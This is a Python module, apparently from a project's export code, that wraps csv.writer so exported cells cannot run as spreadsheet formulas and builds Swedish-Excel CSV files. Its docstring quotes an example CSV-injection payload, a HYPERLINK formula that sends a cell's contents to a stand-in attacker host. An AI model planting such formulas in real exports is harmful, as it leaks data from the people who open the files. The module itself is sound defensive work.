"""The one CSV writer: every export goes through it, so no cell runs as a formula.

A title such as ``=HYPERLINK("http://evil.example/?"&A1,"Klicka")`` is text to us and a
live formula to Excel, LibreOffice and Google Sheets. Text cells starting with one of the
OWASP set (``=``, ``+``, ``-``, ``@``, tab, carriage return) get a leading ``'``, which
spreadsheets show as text and our CSV import drops again (issue 20).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str | int | float:
    """``value`` as a cell a spreadsheet will not evaluate; numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def excel_csv(header: Iterable[object], rows: Iterable[Iterable[object]]) -> bytes:
    """A whole file for Swedish Excel: UTF-8 with BOM, ``;`` and CRLF."""
    out = io.StringIO(newline="")
    writer = SafeWriter(out, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow(header)
    writer.writerows(rows)
    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")
